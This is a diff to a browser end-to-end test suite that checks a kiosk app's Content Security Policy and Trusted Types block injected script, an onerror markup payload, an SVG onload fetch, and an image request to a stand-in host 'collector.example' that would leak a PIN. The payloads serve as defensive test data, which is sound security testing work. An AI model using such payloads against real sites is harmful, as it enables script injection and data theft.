@@ -7,6 +7,7 @@ import type { Catalog, CatalogEntry, TrainingModule } from '../../src/shared/mod
 import type { DocElement } from '../../src/shared/doc-tree.ts';
 import { brotli, gzip } from '../../src/node/compress.ts';
 import { useStack } from './use-stack.ts';
+import { takePolicyViolations } from '../../harness/stack.ts';
 
 /**
  * What the server and the kiosk do with content the publisher would refuse,
@@ -15,6 +16,7 @@ import { useStack } from './use-stack.ts';
  */
 describe('hostile content in a real browser', () => {
   const env = useStack();
+  const violationsSeen: string[] = [];
 
   it('runs nothing in an SVG with scripts opened directly as a page: it gets an opaque origin and no access to storage', async () => {
     const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" onload="fetch(\'/ran-onload\')">'
@@ -32,6 +34,33 @@ describe('hostile content in a real browser', () => {
     expect(await page.evaluate(() => self.origin)).toBe('null');
     expect(await page.evaluate(() => { try { return typeof localStorage.length; } catch (e) { return (e as Error).name; } })).toBe('SecurityError');
     expect(env.stack.requests.filter((p) => p.startsWith('/ran-'))).toEqual([]);
+    await context.close();
+  });
+
+  it('refuses script, markup and addresses the app did not make, and every e2e test would hear of it', async () => {
+    const context = await env.browser.newContext({ locale: 'en-GB' });
+    const page = await context.newPage();
+    await page.goto(env.stack.base);
+    await page.getByTestId('saved-count').waitFor({ timeout: 30_000 });
+    // What an injection would try: script text and markup as strings (Trusted Types refuse both), and an image
+    // from elsewhere, which would carry data out (the CSP refuses it before any request).
+    const outcome = await page.evaluate(() => {
+      const attempt = (what: () => void) => { try { what(); return 'done'; } catch (err) { return (err as Error).name; } };
+      const script = document.createElement('script');
+      return {
+        script: attempt(() => { script.textContent = 'window.ranInjected = true'; document.body.append(script); }),
+        markup: attempt(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ranInjected = true">')),
+        image: attempt(() => { new Image().src = 'https://collector.example/leak.png?pin=1234'; }),
+        ran: (window as { ranInjected?: boolean }).ranInjected ?? false,
+      };
+    });
+    expect(outcome).toEqual({ script: 'TypeError', markup: 'TypeError', image: 'done', ran: false });
+    // The shared watch (tests/e2e/policy-violations.ts) saw all three; taken here, so this test passes.
+    await expect.poll(() => violationsSeen.push(...takePolicyViolations())).toBeGreaterThanOrEqual(3);
+    const seen = violationsSeen.join('\n');
+    expect(seen).toMatch(/require-trusted-types-for refused .*window\.ranInjected = true/);
+    expect(seen).toMatch(/require-trusted-types-for refused .*<img src=x onerror/);
+    expect(seen).toMatch(/img-src refused https:\/\/collector\.example\/leak\.png\?pin=1234/);
     await context.close();
   });
 
